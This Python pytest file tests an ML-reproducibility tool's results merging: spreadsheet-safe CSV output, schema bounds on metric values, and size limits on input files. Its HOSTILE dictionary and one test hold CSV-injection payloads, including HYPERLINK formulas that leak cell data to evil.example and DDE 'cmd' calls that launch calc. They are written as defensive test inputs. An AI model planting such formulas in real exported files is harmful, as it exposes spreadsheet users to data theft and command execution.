"""Results files as other jobs' artifacts (issue 45, points 2 and 3): values no run can produce are
refused by the schema with the field named, a file of a million rows is refused before it is
parsed, and the CSV of ``mlrepro merge`` opens inert in a spreadsheet (OWASP's CSV injection
advice: a text cell that starts with ``=``, ``+``, ``-``, ``@``, TAB or CR gets a leading quote),
the machine name included as ``--mlrepro-machine`` gives it to a real run."""

from __future__ import annotations

import copy
import csv
from pathlib import Path

import pytest
from helpers import BareProject
from test_bounded_pages import run
from test_merge_hostile_inputs import document, latency_row, merge, write

from pytest_mlrepro.results import MAX_ROWS, MAX_TOTAL_BYTES, ResultsFileError, load_results_files

HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "command": "+cmd|' /C calc'!A0",
    "sum": "@SUM(1+9)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def cells(path: Path) -> list[dict[str, str]]:
    with path.open(newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_formula_text_in_machine_manifest_version_and_device_is_written_inert(
    tmp_path: Path, case: str
) -> None:
    value = HOSTILE[case]
    doc = document(machine=value)
    row = doc["results"][0]
    row.update(manifest=value, framework_version=value, device=value)
    latency = latency_row()
    latency.update(manifest=value, framework_version=value, device=value)
    doc["results"].append(latency)
    done = merge(write(tmp_path / "a.json", doc), "--csv", tmp_path / "m.csv")
    assert done.returncode in (0, 1), done.stderr
    rows = cells(tmp_path / "m.csv")
    assert len(rows) == 2
    for written in rows:
        for column in ("machine", "manifest", "framework_version", "device"):
            assert written[column] == "'" + value, (column, written[column])
        # Numbers stay numbers (a negative one is no formula to neutralise).
        assert float(written["top1"] or written["p50_ms"]) > 0


def test_a_real_machine_name_reaches_the_csv_inert(bare: BareProject) -> None:
    bare.manifest("tiny_onnx")
    machine = '=HYPERLINK("http://evil.example","x")'
    bare.run("--mlrepro-update").assert_outcomes(passed=1)
    result = bare.run("--mlrepro-machine", machine, "--mlrepro-json", "run.json")
    result.assert_outcomes(passed=1)
    done = merge(bare.path / "run.json", "--csv", bare.path / "m.csv")
    assert done.returncode == 0, done.stderr
    (row,) = cells(bare.path / "m.csv")
    assert row["machine"] == "'" + machine
    assert row["manifest"] == "tiny_onnx", "plain text is left as it is"


ABSURD = [
    ("top1", -5, "$.results[0].top1"),
    ("top1", 1e308, "$.results[0].top1"),
    ("top5", 100.5, "$.results[0].top5"),
    ("agreement", 7, "$.results[0].agreement"),
    ("agreement", -0.1, "$.results[0].agreement"),
    ("max_score_diff", -1, "$.results[0].max_score_diff"),
    ("golden_top1", 1e9, "$.results[0].golden_top1"),
    ("golden_top5", -1, "$.results[0].golden_top5"),
]


@pytest.mark.parametrize(("field", "value", "where"), ABSURD)
def test_values_no_run_can_produce_are_refused_naming_the_field(
    tmp_path: Path, field: str, value: float, where: str
) -> None:
    doc = document()
    doc["results"][0][field] = value
    done = merge(write(tmp_path / "a.json", doc))
    assert done.returncode == 2, (done.stdout, done.stderr)
    assert f"a.json: {where}: " in done.stderr
    assert "Traceback" not in done.stderr


@pytest.mark.parametrize("field", ["p50_ms", "golden_p50_ms", "ratio_to_golden"])
def test_negative_latencies_are_refused_naming_the_field(tmp_path: Path, field: str) -> None:
    doc = document(rows=[latency_row()])
    doc["results"][0][field] = -2.0
    done = merge(write(tmp_path / "a.json", doc))
    assert done.returncode == 2, done.stderr
    assert f"$.results[0].{field}: " in done.stderr


def test_the_bounds_keep_every_value_a_run_gives(tmp_path: Path) -> None:
    doc = document()
    doc["results"][0].update(top1=0.0, top5=100.0, agreement=0.0, golden_top1=100.0)
    done = merge(write(tmp_path / "a.json", doc))
    assert done.returncode in (0, 1), done.stderr


def million_rows(path: Path) -> Path:
    """A schema-valid results file of 1,000,000 small rows, written in pieces."""
    row = (
        '{"nodeid": "m.yaml::accuracy[cpu-%d]", "outcome": "passed", "manifest": "m", '
        '"device": "cpu", "verdict": "pass"}'
    )
    head = copy.deepcopy(document(rows=[]))
    text = write(path, head).read_text()
    before, after = text.split('"results": []')
    with path.open("w") as out:
        out.write(before + '"results": [')
        for start in range(0, 1_000_000, 10_000):
            out.write(",".join(row % i for i in range(start, start + 10_000)))
            out.write("," if start + 10_000 < 1_000_000 else "")
        out.write("]" + after)
    return path


@pytest.mark.parametrize("command", ["merge", "history"])
def test_a_million_row_file_is_refused_before_it_is_parsed(tmp_path: Path, command: str) -> None:
    """Refused from its row count, with the limit named; the child's peak memory stays near the
    file's own size, which it reads (parsing it would take gigabytes: ``merge`` was killed at
    300 s before, ``history`` at 240 s)."""
    path = million_rows(tmp_path / "big.json")
    size = path.stat().st_size
    status, out, peak_kib = run(command, path)
    assert status == 2, out
    assert "big.json: not read: it holds 1000000 rows" in out
    assert f"the limit of {MAX_ROWS} rows" in out and "refused before it is parsed" in out
    assert "Traceback" not in out
    assert peak_kib * 1024 < 2 * size + (200 << 20), (peak_kib, size)


def test_rows_are_counted_over_all_the_files_read_together(tmp_path: Path) -> None:
    """Two files each under the limit, more than it together: the second is refused unparsed
    (a limit of 3 stands for MAX_ROWS here: validating 5,000 rows takes a while)."""
    files = []
    for name in ("a", "b"):
        doc = document(rows=[{"nodeid": f"{name}{i}", "outcome": "passed"} for i in range(2)])
        files.append(write(tmp_path / f"{name}.json", doc))
    with pytest.raises(ResultsFileError) as refused:
        load_results_files(files, max_rows=3)
    assert "b.json: not read: it holds 2 rows (counted by their" in str(refused.value)
    assert "the 1 rows left of the limit of 3 for all files" in str(refused.value)
    assert [len(d.results) for d in load_results_files(files, max_rows=4)] == [2, 2]


def test_files_of_more_than_a_gib_together_are_refused_before_any_is_read(tmp_path: Path) -> None:
    files = []
    for name in "abcde":  # five files of 250 MB each (sparse: no disk), each under its own limit
        path = tmp_path / f"{name}.json"
        with path.open("wb") as fh:
            fh.truncate(250_000_000)
        files.append(path)
    done = merge(*files)
    assert done.returncode == 2, done.stderr
    assert "e.json: not read: the files named up to it hold 1250000000 bytes" in done.stderr
    assert f"the limit of {MAX_TOTAL_BYTES} for all files read together" in done.stderr
